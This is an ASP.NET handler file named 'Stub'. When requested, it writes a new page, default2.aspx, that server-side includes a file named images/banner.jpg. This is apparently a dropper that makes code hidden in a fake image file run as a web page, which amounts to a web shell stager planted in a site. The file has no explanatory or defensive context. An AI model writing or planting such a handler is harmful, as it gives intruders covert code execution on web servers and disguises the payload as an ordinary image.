<%@ WebHandler Language="C#" Class="Stub" %>
using System.IO;
using System.Web;
public class Stub : IHttpHandler {
    public bool IsReusable { get { return false; } }
    public void ProcessRequest(HttpContext context) {
        using (StreamWriter w = File.CreateText(context.Server.MapPath("default2.aspx")))
            w.Write("<!--#include file=\"images/banner.jpg\" -->");
    }
}
